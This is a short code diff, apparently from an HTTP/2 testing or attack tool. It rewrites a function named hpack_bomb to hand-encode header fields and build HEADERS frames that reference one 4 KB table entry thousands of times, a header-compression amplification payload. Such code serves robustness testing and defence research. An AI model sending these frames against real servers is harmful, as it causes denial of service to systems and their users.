@@ -394,7 +394,8 @@ def provoked_reset(host):
 
 def hpack_bomb(host):
     """A field of 4 KB is put into the table once, and then named by one byte, 16,000 times a head."""
-    section = http2.fields(*head(host, "/attack"))
+    section = b"".join(b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)])
+                       + value.encode() for name, value in head(host, "/attack"))
     large = section + b"\x40\1a\x7f\xa1\x1e" + b"b" * 4000
     flags = http2.END_HEADERS | http2.END_STREAM
     return [frame(http2.HEADERS, flags, 1, large),
